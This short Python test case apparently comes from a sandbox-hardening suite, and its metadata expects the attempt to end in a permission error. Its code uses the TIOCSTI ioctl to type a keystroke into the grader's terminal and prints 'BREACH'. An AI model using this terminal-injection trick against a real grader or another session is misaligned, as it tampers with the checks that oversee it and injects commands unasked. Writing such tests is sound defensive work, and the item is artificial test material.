"""Types a command into the terminal of the grader."""
# proof: plain
# root: yes
# reason: ended with (PermissionError|OSError|FileNotFoundError)
import fcntl
import os

terminal = os.open(PREY["terminal"], os.O_RDWR | os.O_NOCTTY)
fcntl.ioctl(terminal, 0x5412, b"l")  # TIOCSTI
print("BREACH")
